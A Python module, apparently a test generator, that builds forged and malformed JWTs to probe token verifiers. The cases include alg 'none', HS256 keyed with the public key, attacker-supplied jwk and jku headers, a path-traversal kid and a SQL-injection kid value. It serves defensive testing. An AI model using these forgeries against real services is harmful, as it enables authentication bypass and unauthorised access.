"""Spoilt JWTs, each named: what a hostile sender makes of a good one (A-100 to A-107).

A `Maker` knows a good header and payload and what an attacker can know of keys. It gives texts; it
never repairs them, so duplicate members, broken base64 and the like come out as written.
"""

import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256, SHA512
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

CANARY_PATH = "/canary"
Sign = Callable[[bytes], bytes]


def b64(data: bytes) -> str:
    """base64url without padding."""
    return urlsafe_b64encode(data).decode().rstrip("=")


def unb64(text: str) -> bytes:
    """The inverse."""
    return urlsafe_b64decode(text + "=" * (-len(text) % 4))


def decode(jwt: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """Header and payload of a JWT, unverified."""
    header, payload = (json.loads(unb64(part)) for part in jwt.split(".")[:2])
    return header, payload


def compact(header: str, payload: str, sign: Sign) -> str:
    """A compact JWS of these very texts."""
    signed = f"{b64(header.encode())}.{b64(payload.encode())}"
    return f"{signed}.{b64(sign(signed.encode()))}"


def es256(key: ec.EllipticCurvePrivateKey) -> Sign:
    """Sign as RFC 7518 §3.4 asks: r and s, each as long as the curve."""
    size = (key.curve.key_size + 7) // 8

    def sign(data: bytes) -> bytes:
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(SHA256() if size == 32 else SHA512())))
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")

    return sign


def hs256(secret: bytes) -> Sign:
    return lambda data: hmac.digest(secret, data, "sha256")


def jwk_of(key: ec.EllipticCurvePublicKey) -> dict[str, str]:
    """A public key as a JWK."""
    numbers, size = key.public_numbers(), (key.curve.key_size + 7) // 8
    curve = {32: "P-256", 48: "P-384", 66: "P-521"}[size]
    x, y = (b64(number.to_bytes(size, "big")) for number in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": curve, "x": x, "y": y}


@dataclass(frozen=True, slots=True)
class Maker:
    """A good JWT taken apart, the public key that verifies it, and the attacker's own key."""

    header: dict[str, Any]
    payload: dict[str, Any]
    public: ec.EllipticCurvePublicKey
    own: ec.EllipticCurvePrivateKey
    canary: str = "http://127.0.0.1:9/canary"

    def _make(self, sign: Sign, payload: str = "", **header: Any) -> str:
        whole = {**self.header, **header}
        kept = {name: value for name, value in whole.items() if value is not None}
        return compact(json.dumps(kept), payload or json.dumps(self.payload), sign)

    def signatures(self) -> Iterator[tuple[str, str]]:
        """A-100: signatures that prove nothing."""
        for name in ("none", "None", "nOnE", "NONE"):
            yield f"alg {name}", self._make(lambda _: b"", alg=name)
            yield f"alg {name} with a signature", self._make(es256(self.own), alg=name)
        yield "no third part", self._make(lambda _: b"").rpartition(".")[0]
        yield "empty signature", self._make(lambda _: b"")
        yield "r and s are zero", self._make(lambda _: bytes(64))
        yield "attacker's key", self._make(es256(self.own))
        yield "HS256 with an empty key", self._make(hs256(b""), alg="HS256")
        for name, secret in self._public_as_secret():
            yield f"HS256 with the public key as {name}", self._make(hs256(secret), alg="HS256")
        large = ec.generate_private_key(ec.SECP521R1())
        yield "P-521 under ES256", self._make(es256(large), alg="ES256")
        yield "P-521 under ES512", self._make(es256(large), alg="ES512")

    def _public_as_secret(self) -> Iterator[tuple[str, bytes]]:
        pem = self.public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
        yield "PEM", pem
        yield "PEM after a space", b" " + pem
        yield "PEM without its last line end", pem.rstrip()
        yield "DER", self.public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
        yield "SSH", self.public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)

    def headers(self) -> Iterator[tuple[str, str]]:
        """A-101, A-102: headers that try to bring their own key, or their own rules."""
        sign = es256(self.own)
        yield "jku", self._make(sign, jku=self.canary)
        yield "x5u", self._make(sign, x5u=self.canary)
        yield "jwk", self._make(sign, jwk=jwk_of(self.own.public_key()))
        yield "jwk without kid", self._make(sign, jwk=jwk_of(self.own.public_key()), kid=None)
        yield "kid is a path", self._make(sign, kid="../../../../dev/null")
        yield "kid is SQL", self._make(sign, kid="' OR '1'='1")
        yield "kid is a list", self._make(sign, kid=["a"])
        yield "crit unknown", self._make(sign, crit=["urn:unknown"])
        yield "crit b64", self._make(sign, crit=["b64"], b64=False)
        yield "nested", self._make(sign, cty="JWT")

    def payloads(self, sign: Sign) -> Iterator[tuple[str, str]]:
        """A-104, A-105: claims that parsers disagree about. `sign` may be the right key."""
        good = json.dumps(self.payload)
        for name, value in (
            ("text", '"9999999999"'),
            ("NaN", "NaN"),
            ("Infinity", "Infinity"),
            ("1e400", "1e400"),
            ("a huge integer", "9" * 400),
            ("a list", "[9999999999]"),
            ("true", "true"),
        ):
            for claim in ("iat", "exp"):
                if claim in self.payload:
                    yield f"{claim} is {name}", self._make(sign, _with(self.payload, claim, value))
        for claim in ("iss", "sub", "aud", "nonce"):
            if claim in self.payload:
                doubled = f'{{"{claim}": "x", {good[1:]}'
                yield f"{claim} twice", self._make(sign, doubled)
        for depth in (1200, 3000):
            deep = f'{{"x": {"[" * depth}{"]" * depth}, {good[1:]}'
            yield f"{depth} deep", self._make(sign, deep)
        yield "a list of claims", self._make(sign, f"[{good}]")
        yield "not JSON", self._make(sign, "}{")
        yield "not UTF-8", _raw(self.header, b'{"sub": "\xff\xfe"}', sign)

    def texts(self, genuine: str) -> Iterator[tuple[str, str]]:
        """A-107: the good JWT, written another way."""
        header, payload, signature = genuine.split(".")
        yield "padding", f"{genuine}=="
        yield "padding inside", f"{header}==.{payload}.{signature}"
        yield "a space inside", f"{header} .{payload}.{signature}"
        yield "non-canonical last bits", f"{header}.{payload}.{_next_letter(signature)}"
        yield "a fourth part", f"{genuine}."
        yield "a fifth part", f"{genuine}..x"


def _with(payload: dict[str, Any], claim: str, value: str) -> str:
    others = {name: one for name, one in payload.items() if name != claim}
    return f'{{"{claim}": {value}, {json.dumps(others)[1:]}'


def _raw(header: dict[str, Any], payload: bytes, sign: Sign) -> str:
    signed = f"{b64(json.dumps(header).encode())}.{b64(payload)}"
    return f"{signed}.{b64(sign(signed.encode()))}"


def _next_letter(text: str) -> str:
    """The same bytes by a lenient decoder: only the unused last bits differ (86 letters, 64 bytes)."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + letters[letters.index(text[-1]) | 1] if len(text) % 4 else f"{text}A"
